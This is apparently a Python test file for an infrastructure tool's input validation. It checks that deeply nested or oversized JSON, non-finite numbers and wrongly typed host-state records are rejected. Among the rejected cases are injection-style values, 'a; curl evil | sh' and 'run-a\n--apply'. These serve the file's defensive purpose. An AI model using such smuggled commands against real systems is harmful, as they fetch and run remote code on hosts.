"""Plain data of somebody else is within bounds, or refused in a sentence."""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from selextract_infra.model.bounds import parsed_json, refuse_unbounded, refuse_unbounded_word
from selextract_infra.model.host_state import noted_on_host
from selextract_infra.model.observation import HostObservation

DEEP = 10_000


@pytest.mark.parametrize(
    "text",
    [
        "[" * DEEP + "]" * DEEP,
        '{"a":' * DEEP + "1" + "}" * DEEP,
        "[" * 65 + "]" * 65,
        "NaN",
        "[-Infinity]",
        '{"a": 1e400}',
        "1" + "0" * 300,
        "9" * 5000,
        json.dumps({"a": "x" * (2 << 20)}),
        "[" + "0," * 2_000_001 + "0]",
        "no json",
    ],
    ids=["lists", "objects", "just too deep", "NaN", "Infinity", "1e400", "far", "digits", "text", "many", "no json"],
)
def test_json_beyond_all_bounds_is_refused_with_a_value_error(text: str) -> None:
    with pytest.raises(ValueError, match=r".+"):
        parsed_json(text)


def test_what_is_within_bounds_comes_as_it_is() -> None:
    data = {"a": [1, 2.5, None, True, "text", {"deep": [[[[0]]]]}], "b": 2**62}
    assert parsed_json(json.dumps(data)) == data
    refuse_unbounded(data)


NOTED: dict[str, Any] = {
    "lock": {
        "run_id": "run-a",
        "owner": "ann",
        "lease_until": "2026-03-01T02:00:00+00:00",
        "lease_left": 3.0,
        "epoch": 1,
    },
    "unfinished": [{"run_id": "run-a", "steps": {"limits": {"status": "running"}}, "plan": {"made_by": "ann"}}],
    "ended": {"run-b": "done"},
    "emergency": {
        "run_id": "r",
        "status": "active",
        "expires_at": 1772330400.0,
        "began_at": "2026-03-01T02:00:00+00:00",
    },
    "autoscaler": {"services": {"api": {"count": 2, "last_out": 1772330400.5}}},
    "freeze": None,
}


def test_what_our_own_code_notes_is_understood_and_kept_as_it_is() -> None:
    assert noted_on_host(NOTED) == NOTED
    assert HostObservation(name="app1", state=NOTED).state == NOTED


@pytest.mark.parametrize(
    ("part", "wrong"),
    [
        ("lock", "locked"),
        ("lock", {"lease_until": "soon"}),
        ("lock", {"lease_until": "9999-12-31T23:59:59+00:00"}),
        ("lock", {"lease_left": float("nan")}),
        ("lock", {"lease_left": "inf"}),
        ("lock", {"epoch": [1]}),
        ("lock", {"run_id": "a; curl evil | sh"}),
        ("lock", {"owner": "x" * 5000}),
        ("unfinished", {"run_id": "a"}),
        ("unfinished", ["run-a"]),
        ("unfinished", [{"owner": "ann"}]),
        ("unfinished", [{"run_id": "run-a\n--apply"}]),
        ("unfinished", [{"run_id": "run-a", "steps": ["limits"]}]),
        ("unfinished", [{"run_id": "run-a", "steps": {"limits": "verified"}}]),
        ("unfinished", [{"run_id": "run-a", "started_at": 3}]),
        ("unfinished", [{"run_id": "run-a", "plan": "plan"}]),
        ("ended", [1]),
        ("ended", {"run-a": {"deep": []}}),
        ("emergency", {"run_id": "r", "status": "over", "expires_at": 1.0, "began_at": 1.0}),
        ("emergency", {"run_id": "r", "status": "active", "expires_at": 1e300, "began_at": 1.0}),
        ("emergency", {"status": "active"}),
        ("autoscaler", {"services": {"api": {"count": -3}}}),
        ("autoscaler", {"services": {"api": {"last_out": float("inf")}}}),
        ("autoscaler", {"services": []}),
        ("freeze", [1]),
        ("projects", {"a": 1}),
    ],
)
def test_state_of_another_type_is_refused(part: str, wrong: Any) -> None:
    with pytest.raises(ValueError, match=r".+"):
        noted_on_host({part: wrong})


def test_whoever_reads_that_a_number_is_too_large_reads_where_it_stands() -> None:
    with pytest.raises(ValueError, match=r"a number beyond the range of any machine \(facts\.disks\.1\.free\)"):
        refuse_unbounded({"facts": {"cpus": 2, "disks": [{"free": 1}, {"free": 2**64}]}})


@given(st.integers(0, 16**6 - 1), st.sampled_from(["{}", "--run={}", "web-{}", "sha256:{}", "{}.json", "shop/{}:1"]))
@example(0x93E420, "{}")
@example(0x1E9999, "web-{}")
def test_a_name_is_no_number_however_its_digits_fall(number: int, form: str) -> None:
    refuse_unbounded_word(form.format(f"20261130T235302-{number:06x}"))


@pytest.mark.parametrize("word", ["1e308", "--memory=1e308", "api=1e99", "-1e99", "1e99GB", "2,1e99", "9" * 40])
def test_a_number_that_no_machine_has_is_refused_where_it_is_typed(word: str) -> None:
    with pytest.raises(ValueError, match="beyond the range of any machine"):
        refuse_unbounded_word(word)
